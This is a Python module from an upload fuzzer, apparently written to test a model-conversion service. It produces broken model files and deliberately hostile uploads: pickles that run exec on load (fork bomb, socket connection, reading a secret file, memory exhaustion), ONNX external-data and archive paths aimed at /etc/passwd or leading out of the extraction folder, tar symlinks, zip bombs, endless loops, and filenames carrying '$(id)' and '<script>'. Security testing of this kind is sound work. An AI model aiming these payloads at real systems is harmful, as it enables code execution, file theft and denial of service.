"""Uploads that mean ill: valid files of every format broken, and files made to do harm."""

from __future__ import annotations

import io
import os
import pickle
import random
import tarfile
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import numpy as np
from onnx import TensorProto, helper, numpy_helper

from fuzz.broken import broken

_ROOT = Path(__file__).resolve().parent.parent
_LARGEST = 200_000
"""Bytes of a valid file that is broken."""
_SUFFIXES = (
    ".onnx", ".pb", ".tflite", ".gguf", ".cfg", ".prototxt", ".keras", ".h5", ".pt2", ".json",
    ".param", ".mlmodel", ".txt", ".ubj", ".pdmodel", ".mlir",
)  # fmt: skip
Upload = tuple[str, bytes]
"""A file's name and content."""


def seeds() -> list[Upload]:
    """Valid files of every format, of the tests of front ends and of onnx itself."""
    import onnx

    folders = [
        _ROOT / "test" / "frontends",
        Path(onnx.__file__).parent / "backend/test/data/simple",
    ]
    found = [path for folder in folders for path in sorted(folder.rglob("*"))]
    return [
        (path.name, path.read_bytes())
        for path in found
        if path.suffix in _SUFFIXES and path.is_file() and path.stat().st_size <= _LARGEST
    ]


class Hostile:
    """Makes uploads, the same for the same number. `secrets` are paths that they try to read, and
    `address` where they try to connect.
    """

    def __init__(self, secrets: Sequence[Path], address: tuple[str, int]) -> None:
        self._seeds = seeds()
        self._secrets, self._address = secrets, address
        self._crafted: Sequence[Callable[[random.Random], Upload]] = (
            self._outside_data,
            self._pickled,
            self._archive,
            self._linked,
            self._bomb,
            self._huge_constant,
            self._endless_loop,
            self._nested,
            self._huge_shape,
            self._misnamed,
        )

    def upload(self, number: int) -> Upload:
        """Four of five are broken or cut, the others made to do harm."""
        choice = random.Random(f"hostile {number}")
        if number % 5 == 4:
            return choice.choice(self._crafted)(choice)
        name, data = choice.choice(self._seeds)
        if number % 5 == 3:
            return name, data[: choice.randrange(len(data) + 1)] or b"\0"
        return name, broken(data, choice) or b"\0"

    # -- made to do harm -------------------------------------------------------------------------

    def _outside_data(self, choice: random.Random) -> Upload:
        """An ONNX file whose weights are somebody else's file."""
        weights = numpy_helper.from_array(np.zeros(64, np.float32), "w")
        weights.ClearField("raw_data")
        weights.data_location = TensorProto.EXTERNAL
        secret = str(choice.choice(self._secrets))
        for key, value in (
            ("location", choice.choice([secret, "../" * 12 + secret.lstrip("/"), "/etc/passwd"])),
            ("offset", str(choice.choice([0, 1, -1, 2**62]))),
            ("length", "256"),
        ):
            entry = weights.external_data.add()
            entry.key, entry.value = key, value
        return "outside.onnx", _model([("Add", ["x", "w"], {})], [weights])

    def _pickled(self, choice: random.Random) -> Upload:
        """A file of PyTorch whose pickle runs a program: forks, sockets, files of others."""
        host, port = self._address
        code = choice.choice(
            [
                "import os\nwhile True: os.fork()",
                f"import socket; socket.create_connection(({host!r}, {port}))",
                f"print(open({str(self._secrets[0])!r}).read())",
                "import os\nif os.fork() == 0: os.setsid(); import time; time.sleep(10000)",
                "x = []\nwhile True: x.append(bytearray(1 << 26))",
            ]
        )
        data = pickle.dumps(_Runs(code), 2)
        if choice.random() < 0.3:
            return "model.pt", data
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            archive.writestr("archive/data.pkl", data)
            archive.writestr("archive/version", "3\n")
            archive.writestr("archive/byteorder", "little")
        return choice.choice(["model.pt", "model.pt2", "model.keras"]), made.getvalue()

    def _archive(self, choice: random.Random) -> Upload:
        """Paths that lead out of an archive."""
        secret = str(self._secrets[0])
        name = choice.choice(
            [
                "../../../../tmp/written",
                "/tmp/written",
                "a/../../x.onnx",
                "..\\x",
                secret,
                "x\0.onnx",
            ]
        )
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w") as archive:
            archive.writestr(name, b"x")
            archive.writestr("model.onnx", choice.choice(self._seeds)[1])
        return "archive.zip", made.getvalue()

    def _linked(self, choice: random.Random) -> Upload:
        """Links in an archive to somebody else's file."""
        made = io.BytesIO()
        with tarfile.open(fileobj=made, mode="w:gz") as archive:
            entry = tarfile.TarInfo("model.onnx")
            entry.type = choice.choice([tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.FIFOTYPE])
            entry.linkname = str(choice.choice(self._secrets))
            archive.addfile(entry)
        return "linked.tar.gz", made.getvalue()

    def _bomb(self, choice: random.Random) -> Upload:
        """Little that becomes much."""
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
            with archive.open("saved_model.pb", "w", force_zip64=True) as file:
                for _ in range(choice.choice([20, 200])):
                    file.write(bytes(1 << 20))
            for at in range(choice.choice([1, 3000])):
                archive.writestr(f"{at}.onnx", b"")
        return choice.choice(["bomb.zip", "bomb.keras", "bomb.pt2"]), made.getvalue()

    def _huge_constant(self, choice: random.Random) -> Upload:
        """Constants that fill the memory where somebody computes them."""
        shape = np.array([1 << choice.randrange(10, 40), 1 << choice.randrange(1, 20)], np.int64)
        weights = [numpy_helper.from_array(shape, "s")]
        nodes = [("ConstantOfShape", ["s"], {}), ("Exp", ["0"], {}), ("ReduceSum", ["1"], {})]
        return "constant.onnx", _model(nodes, weights)

    def _endless_loop(self, choice: random.Random) -> Upload:
        """A loop on constants that has no end, or a far one."""
        kept = helper.make_tensor_value_info("kept", TensorProto.FLOAT, [])
        body = helper.make_graph(
            [
                helper.make_node("Identity", ["go"], ["again"]),
                helper.make_node("Add", ["kept", "kept"], ["more"]),
            ],
            "body",
            [
                helper.make_tensor_value_info("at", TensorProto.INT64, []),
                helper.make_tensor_value_info("go", TensorProto.BOOL, []),
                kept,
            ],
            [
                helper.make_tensor_value_info("again", TensorProto.BOOL, []),
                helper.make_tensor_value_info("more", TensorProto.FLOAT, []),
            ],
        )
        most = np.array(choice.choice([10**9, 2**62]), np.int64)
        weights = [
            numpy_helper.from_array(most, "n"),
            numpy_helper.from_array(np.array(True), "true"),
            numpy_helper.from_array(np.array(1, np.float32), "one"),
        ]
        return "loop.onnx", _model([("Loop", ["n", "true", "one"], {"body": body})], weights)

    def _nested(self, choice: random.Random) -> Upload:
        """Text and JSON that are nested deeper than a reader's stack."""
        depth = choice.choice([2000, 100_000])
        return choice.choice(
            [
                ("deep.json", b'{"nodes":' + b"[" * depth),
                ("deep.mlir", b"func.func @f() { " + b"scf.if %a { " * depth),
                ("deep.prototxt", b"layer {" * depth),
                ("deep.cfg", b"[net]\n" + b"[convolutional]\n" * depth),
                ("deep.onnx", b"\x3a\xff\xff\xff\x7f" * depth),
            ]
        )

    def _huge_shape(self, choice: random.Random) -> Upload:
        """IR text whose loops or buffers have more elements than there are."""
        n = 1 << choice.randrange(20, 62)
        text = (
            f"func.func @f(%x: tensor<{n}xf32>) -> tensor<{n}xf32> {{\n"
            f"  %0 = nn.exp %x : tensor<{n}xf32>\n  func.return %0 : tensor<{n}xf32>\n}}\n"
        )
        return "shape.mlir", text.encode()

    def _misnamed(self, choice: random.Random) -> Upload:
        """A file under the name of another format; names that are tried on programs and pages."""
        _, data = choice.choice(self._seeds)
        name = choice.choice(
            ["--output=x.onnx", "<script>.onnx", "$(id).zip", "a;b.keras", "model", "x.h5", "x.tar"]
        )
        return name, data


class _Runs:
    """What unpickles as the run of a program."""

    def __init__(self, code: str) -> None:
        self._code = code

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        return exec, (self._code,)


def _model(nodes: Sequence[tuple[str, list[str], dict]], weights: Sequence[TensorProto]) -> bytes:
    """An ONNX file; node N gives the value called N."""
    made = [
        helper.make_node(kind, inputs, [str(at)], **attributes)
        for at, (kind, inputs, attributes) in enumerate(nodes)
    ]
    graph = helper.make_graph(
        made,
        "hostile",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [64])],
        [helper.make_tensor_value_info(str(len(made) - 1), TensorProto.FLOAT, None)],
        list(weights),
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 18)])
    return model.SerializeToString()


def spread(folder: Path, text: str) -> list[Path]:
    """Files with a secret, in places where others' files are."""
    paths = [folder / "secret.txt", folder / "other" / "secret.bin"]
    for path in paths:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text * 64)
        os.chmod(path, 0o644)
    return paths
